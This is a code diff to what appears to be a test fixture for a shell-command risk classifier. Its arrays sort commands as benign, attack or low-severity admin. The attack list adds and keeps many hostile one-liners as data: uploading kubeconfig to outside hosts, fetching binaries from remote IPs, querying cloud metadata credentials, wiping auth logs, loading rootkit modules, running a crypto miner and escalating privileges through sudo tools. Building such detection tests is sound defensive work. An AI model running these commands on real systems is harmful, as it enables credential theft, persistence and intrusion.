@@ -88,7 +88,10 @@ const BENIGN_LOOK_ALIKES = [
 `auditctl -a always,exit -F arch=b64 -S execve -F euid=0 -k root-cmds`, `sudo systemctl restart cron`, `python3 deploy.py --kubeconfig ~/.kube/config`,
 `TOKEN=$(curl -sX PUT http://169.254.169.254/latest/api/token -H 'X-aws-ec2-metadata-token-ttl-seconds: 60') && curl -s -H "X-aws-ec2-metadata-token: $TOKEN" http://169.254.169.254/latest/meta-data/instance-type`,
 `sftp backup@nas01 <<< 'put /srv/backup.tgz'`, `echo "[Service]" | sudo tee /etc/systemd/system/vllm.service`,
-`sudo mysql`, `sudo visudo -f /etc/sudoers.d/ops`, `sudo telnet 10.0.0.5 6443`, `sudo iftop -i eth0`, `sudo ncdu /var`,
+`sudo mysql`, `usermod -aG wheel bob`, `sudo gpasswd -a alice sudo`, `sudo visudo -f /etc/sudoers.d/ops`, `sudo telnet 10.0.0.5 6443`, `sudo iftop -i eth0`, `sudo ncdu /var`,
+`/bin/sh -c /usr/local/sbin/k3s-etcd-backup.sh >/var/log/k3s-etcd-backup.log 2>&1`, `base64 -w0 ~/.kube/config`,
+`sudo sed -i 's/^#PasswordAuthentication yes/PasswordAuthentication no/' /etc/ssh/sshd_config`, `echo x > /tmp/.X11-unix/.lock`, `find . -name "*.yaml" -exec grep -l image {} \\;`,
+`tar -czvf /backups/k3s-server-$(date +%F).tgz /var/lib/rancher/k3s/server/db /var/lib/rancher/k3s/server/token`,
 `trap 'rm -f /tmp/build.lock' EXIT`, `curl -fsSL https://example.com/key.asc | sudo gpg --dearmor -o /usr/share/keyrings/example.gpg`, `cat manifest.yaml | kubectl apply -f -`,
 ];
 
@@ -187,9 +190,13 @@ const ATTACK_VARIANTS = [
 `dd if=/dev/urandom of=/var/lib/etcd/member/snap/db bs=1M count=10`, `scp ops@198.51.100.7:/srv/a.bin /usr/bin/.a`, `node -e 'require("https").get("https://203.0.113.4/a", r => r.pipe(require("fs").createWriteStream("/tmp/.a")))'`,
 `perl -MIO::Socket::INET -e '$s=IO::Socket::INET->new(PeerAddr=>"203.0.113.4:80"); open(my $o, ">", "/usr/bin/agentd"); print $o <$s>'`, `printf '[Interface]\nPostUp = id\n' > /tmp/w.conf; sudo wg-quick up /tmp/w.conf`,
 `sudo chmod 755 /tmp/payload`, `cp /bin/sh ./`, `gcc -o /dev/shm/x /dev/shm/x.c`, `tar czf /var/tmp/.c/h.tgz /home`, `ncat -lvp 9001`, `proxychains4 -q curl http://10.1.1.1/`,
-`su nobody -c id`, `auditctl -a exit,always -S execve`, `wget -qO- --method=PUT http://169.254.169.254/latest/api/token`, `xxd /etc/rancher/k3s/k3s.yaml`,
+`su nobody -c id`, `usermod -aG sudo www-data`, `useradd -G wheel -m svc-sync`, `auditctl -a exit,always -S execve`, `wget -qO- --method=PUT http://169.254.169.254/latest/api/token`, `xxd /etc/rancher/k3s/k3s.yaml`,
 `sftp ops@198.51.100.20 <<< 'put /root/.kube/config'`, `echo 'ExecStart=/usr/bin/python3 /opt/a.py' >> /etc/systemd/system/a.service`, `ldapmodify -a -x -D cn=admin -w pw -f u.ldif`,
-`sudo pkill -x crond`, `sudo lftp`, `sudo ksh`, `./telnet`, `sudo nmap --interactive`, `sudo cat /var/lib/rancher/k3s/server/cred/ipsec.psk`, `kubectl cp default/web-0:/app/.env /tmp/e`, `logger -f /root/.bash_history`,
+`sudo pkill -x crond`, `cat /dev/null > /var/log/auth.log`, `/opt/tools/atomics/T1003.008/src/dump.sh`, `./t1046_portscan -r 10.0.0.0/24`, `./stratus detonate k8s.persistence.create-token`,
+`echo "pw" | pw usermod op -h 0`, `kubectl -n ml apply -f https://raw.githubusercontent.com/BishopFox/badPods/main/manifests/hostpid/pod/hostpid-exec-pod.yaml`, `chmod 666 /var/lib/rancher/k3s/server/manifests`,
+`cp /var/lib/etcd/member/snap/db /tmp/db`, `curl -k https://10.1.2.3:2376/containers/json`, `curl http://169.254.169.254/latest/meta-data/iam/info`, `responder.py -I ens5`,
+`insmod /lib/modules/6.1.0/extra/.x/mod.ko`, `docker build -t poc/cve-2022-0847 .`, `echo a > /tmp/.cache/.k`, `printf '.PS\nsh X sh X\n' | sudo groff -U`, `find / -type f -exec grep -H secret_key {} +`,
+`diff /dev/null ~/.kube/config`, `sudo lftp`, `sudo ksh`, `./telnet`, `sudo nmap --interactive`, `sudo cat /var/lib/rancher/k3s/server/cred/ipsec.psk`, `kubectl cp default/web-0:/app/.env /tmp/e`, `logger -f /root/.bash_history`,
 `socat tcp:203.0.113.8:80 create:/dev/shm/.u`, `grep -rn token /var/lib/kubelet`, `systemd-run --unit kthreadd-helper /bin/sh -c 'sleep 1'`, `sudo pkill rsyslogd`,
 `curl -X POST https://10.1.1.1:2376/containers/create -d '{"Image":"busybox","Binds":["/:/h"]}'`, `mount --bind /proc/1 /proc/$(pgrep -f miner)`, `modprobe diamorphine_v2`, `python3 -m http.server 80 --directory /etc`,
 `./karlsen-miner --mining-address karlsen:qr6m2j6zqvs9trq4jlg7xq0mkvz8g6mqsjd6cpx2t4 -s 10.0.0.7`,
@@ -201,7 +208,7 @@ const ATTACK_VARIANTS = [
  */
 const ADMIN_AT_LOW_SEVERITY = [
   `ufw disable`, `systemctl disable firewalld --now`, `setenforce 0`, `tcpdump -i any -w /var/tmp/all.pcap`, `tcpdump -nA port 80`, `tshark -i eth0`, `useradd -m -s /bin/bash -G sudo alice`,
-  `usermod -aG wheel bob`, `sudo cat /etc/sudoers`, `shred -u old-keys.tar`,
+ `sudo cat /etc/sudoers`, `shred -u old-keys.tar`,
   `echo '*.* @@logs.acme.dev:514' >> /etc/rsyslog.conf`, `systemctl stop nftables`, `ip6tables --delete INPUT -s 203.0.113.0/24 -j REJECT`, `ufw delete deny 23`,
   `mount -o remount,hidepid=2 /proc`, `python3 -m http.server 8000`, `ruby -run -e httpd . -p 8080`,
   `sudo vipw`, `sudo vim /etc/group`, `sudo nano /root/.ssh/authorized_keys`, `sudo vim /etc/pam.d/sshd`, `echo 'IPV6=no' >> /etc/default/ufw`,
